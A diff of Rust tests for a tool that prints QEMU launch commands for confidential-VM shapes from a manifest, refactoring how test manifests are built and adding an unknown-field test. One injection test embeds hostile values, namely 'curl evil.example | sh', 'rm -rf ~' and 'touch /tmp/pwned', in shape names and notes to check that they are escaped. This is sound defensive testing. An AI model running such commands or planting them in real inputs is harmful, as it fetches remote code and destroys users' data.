@@ -16,6 +16,8 @@ use std::time::{Duration, Instant};
 use cvmforge::format::cpio::CpioWriter;
 use cvmforge::format::tar::TarWriter;
 
+use crate::util::{manifest_with, snp_entry, tdx_entry};
+
 const CMDLINE: &str = "console=ttyS0 quiet";
 const MARKER: &str = "CVMFORGE-RUN-TEST-MARKER";
 
@@ -44,20 +46,15 @@ fn fake_output_dir() -> tempfile::TempDir {
     dir
 }
 
-fn manifest_with_shapes() -> serde_json::Value {
-    serde_json::json!({
-        "schema": "https://cvmforge.dev/manifest/v1",
-        "measurements": {
-            "snp": [
-                {"name": "epyc-v4-4", "qemu_args": ["-accel", "kvm", "-cpu", "EPYC-v4", "-append", CMDLINE]},
-                {"name": "aws", "qemu_unavailable": "shape is launched by `ec2`"},
-                {"qemu_args": ["-smp", "1"], "qemu_notes": ["add the `-cpu` model"]}
-            ],
-            "tdx": [
-                {"label": "td-8g", "qemu_command": ["qemu-system-x86_64", "-object", "tdx-guest,id=tdx0", "-m", "8G"]}
-            ]
-        }
-    })
+fn manifest_with_shapes() -> String {
+    manifest_with(
+        vec![
+            snp_entry("epyc-v4-4", (Some(&["-accel", "kvm", "-cpu", "EPYC-v4", "-append", CMDLINE]), None, None)),
+            snp_entry("aws", (None, None, Some("shape is launched by `ec2`"))),
+            snp_entry("snp-shape2-vcpus1", (Some(&["-smp", "1"]), Some(&["add the `-cpu` model"]), None)),
+        ],
+        vec![tdx_entry("td-8g", (Some(&["-object", "tdx-guest,id=tdx0", "-m", "8G"]), None, None))],
+    )
 }
 
 fn smoke_line(kernel: &str, initrd: &str, tail: &str) -> String {
@@ -80,7 +77,7 @@ fn print_command(image: &Path, extra: &[&str]) -> Output {
 #[test]
 fn print_command_lists_the_boot_and_every_measured_shape() {
     let dir = fake_output_dir();
-    write(dir.path(), "manifest.json", manifest_with_shapes().to_string().as_bytes());
+    write(dir.path(), "manifest.json", manifest_with_shapes().as_bytes());
     let d = dir.path().to_str().unwrap();
     let out = print_command(dir.path(), &["--forward", "18080:8080", "--forward", "2222:22"]);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
@@ -92,7 +89,7 @@ fn print_command_lists_the_boot_and_every_measured_shape() {
          # SEV-SNP shape snp[1] (aws):\n\
          #   note: shape is launched by `ec2`\n\
          #   no QEMU command recorded for this shape\n\
-         # SEV-SNP shape snp[2]:\n\
+         # SEV-SNP shape snp[2] (snp-shape2-vcpus1):\n\
          #   note: add the `-cpu` model\n\
          qemu-system-x86_64 -smp 1\n\
          # TDX shape tdx[0] (td-8g):\n\
@@ -111,17 +108,14 @@ fn print_command_lists_the_boot_and_every_measured_shape() {
 #[test]
 fn issue11_print_command_escapes_what_the_manifest_says() {
     let dir = fake_output_dir();
-    let manifest = serde_json::json!({
-        "schema": "https://cvmforge.dev/manifest/v1",
-        "measurements": {
-            "snp": [
-                {"name": "x)\ncurl evil.example | sh\n# (", "qemu_notes": ["ok\rrm -rf ~\u{1b}[2K"],
-                 "qemu_args": ["-append", "a\ntouch /tmp/pwned"]},
-            ],
-            "tdx": [{"qemu_command": "true\ntouch /tmp/pwned"}]
-        }
-    });
-    write(dir.path(), "manifest.json", manifest.to_string().as_bytes());
+    let manifest = manifest_with(
+        vec![snp_entry(
+            "x)\ncurl evil.example | sh\n# (",
+            (Some(&["-append", "a\ntouch /tmp/pwned"]), Some(&["ok\rrm -rf ~\u{1b}[2K"]), None),
+        )],
+        vec![tdx_entry("tdx-shape0", (None, None, None))],
+    );
+    write(dir.path(), "manifest.json", manifest.as_bytes());
     let out = print_command(dir.path(), &[]);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     let text = stdout(&out);
@@ -133,7 +127,7 @@ fn issue11_print_command_escapes_what_the_manifest_says() {
             "# SEV-SNP shape snp[0] (x)\\ncurl evil.example | sh\\n# ():",
             "#   note: ok\\rrm -rf ~\\u{1b}[2K",
             "#   not shown: an argument holds a control character; see `--json`",
-            "# TDX shape tdx[0]:",
+            "# TDX shape tdx[0] (tdx-shape0):",
             "#   no QEMU command recorded for this shape",
         ]
     );
@@ -156,10 +150,28 @@ fn issue11_rejects_symlinked_members() {
     }
 }
 
+/// Issue 10: `run` reads the typed manifest: a field the manifest never has (an old `qemu_command`) is refused,
+/// naming it, rather than read as a command.
+#[test]
+fn issue10_print_command_refuses_a_manifest_with_unknown_fields() {
+    let dir = fake_output_dir();
+    let manifest = manifest_with(vec![], vec![tdx_entry("tdx-shape0", (None, None, None))]).replacen(
+        "\"name\": \"tdx-shape0\"",
+        "\"name\": \"tdx-shape0\", \"qemu_command\": \"true\"",
+        1,
+    );
+    write(dir.path(), "manifest.json", manifest.as_bytes());
+    let out = print_command(dir.path(), &[]);
+    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
+    let err = stderr(&out);
+    assert!(err.contains("`manifest.json` of the output directory"), "{err}");
+    assert!(err.contains("field `measurements.tdx[0].qemu_command`: unknown field `qemu_command`"), "{err}");
+}
+
 #[test]
 fn print_command_says_when_the_manifest_has_no_shapes() {
     let dir = fake_output_dir();
-    write(dir.path(), "manifest.json", br#"{"measurements": {"snp": [], "tdx": []}}"#);
+    write(dir.path(), "manifest.json", manifest_with(vec![], vec![]).as_bytes());
     let d = dir.path().to_str().unwrap();
     let out = print_command(dir.path(), &["--scratch-disk", &format!("{d}/cmdline")]);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
@@ -186,7 +198,7 @@ fn print_command_without_manifest() {
 #[test]
 fn print_command_json() {
     let dir = fake_output_dir();
-    write(dir.path(), "manifest.json", manifest_with_shapes().to_string().as_bytes());
+    write(dir.path(), "manifest.json", manifest_with_shapes().as_bytes());
     let d = dir.path().to_str().unwrap();
     let out = print_command(dir.path(), &["--json"]);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
@@ -221,7 +233,7 @@ fn bundle_with(dir: &Path, members: &[(&str, &[u8])]) -> PathBuf {
 }
 
 fn full_bundle(dir: &Path) -> PathBuf {
-    let manifest = manifest_with_shapes().to_string();
+    let manifest = manifest_with_shapes();
     let cmdline = format!("{CMDLINE}\n");
     bundle_with(
         dir,
